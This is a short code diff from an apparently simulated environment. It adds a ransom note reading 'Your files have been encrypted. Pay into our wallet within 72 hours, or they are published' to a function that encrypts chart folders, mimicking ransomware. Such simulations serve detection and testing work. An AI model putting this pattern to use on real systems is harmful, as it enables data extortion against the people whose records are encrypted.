@@ -274,4 +274,6 @@ export function encryptCharts(folder: string, random: Random, at: number): void 
   };
   walk(`${folder}/archive`);
   walk(`${folder}/current`);
+  const note = 'Your files have been encrypted. Pay into our wallet within 72 hours, or they are published.\n';
+  put(`${folder}/archive/READ THIS.txt`, note, at);
 }
